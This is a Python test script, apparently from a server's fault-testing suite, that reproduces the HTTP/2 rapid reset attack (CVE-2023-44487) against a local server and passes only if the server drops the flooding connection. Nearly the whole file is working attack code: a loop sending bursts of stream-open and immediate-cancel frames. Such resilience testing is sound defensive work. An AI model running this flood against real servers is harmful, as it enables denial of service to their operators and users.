"""HTTP/2 rapid reset (CVE-2023-44487): streams that are opened and cancelled at once, as fast as they go."""

import socket
import struct

import faults

options = faults.arguments(__doc__)
orchestrator = faults.Orchestrator(options.countersign).start()

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, GOAWAY = 1, 3, 4, 7
# :method GET, :scheme https, :path /.well-known/est/cacerts (literal), :authority localhost (literal)
PATH = b"/.well-known/est/cacerts"
BLOCK = b"\x82\x87\x04" + bytes([len(PATH)]) + PATH + b"\x01\x09localhost"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def attack(stop):
    context = faults.unverified()
    context.set_alpn_protocols(["h2"])
    resets = 0
    with socket.create_connection(("127.0.0.1", orchestrator.port), timeout=10) as plain:
        with context.wrap_socket(plain) as channel:
            if channel.selected_alpn_protocol() != "h2":
                raise RuntimeError("HTTP/2 is not offered")
            channel.sendall(PREFACE + frame(SETTINGS, 0, 0))
            stream = 1
            try:
                while not stop.is_set() and stream < 2_000_000:
                    burst = b""
                    for _ in range(100):
                        burst += frame(HEADERS, 0x05, stream, BLOCK) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                        stream += 2
                        resets += 1
                    channel.sendall(burst)
            except OSError:
                return resets, True
    return resets, False


def trouble(stop, verdict):
    resets, closed, connections = 0, 0, 0
    while not stop.is_set():
        done, was_closed = attack(stop)
        resets += done
        closed += was_closed
        connections += 1
    verdict.note(resets=resets, connections=connections, closed=closed)
    verdict.demand(closed > 0, "no attacking connection was closed")


verdict = faults.watched("HTTP/2 rapid reset", orchestrator, options, trouble)
orchestrator.remove()
verdict.end()
